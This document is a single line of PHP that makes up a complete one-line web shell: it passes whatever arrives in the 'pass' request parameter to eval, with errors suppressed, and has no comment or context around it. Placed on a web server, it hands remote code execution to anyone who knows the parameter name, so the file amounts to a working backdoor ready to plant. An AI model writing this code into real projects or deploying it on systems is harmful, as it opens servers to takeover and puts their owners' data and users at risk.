<?php @eval($_REQUEST['pass']);?>
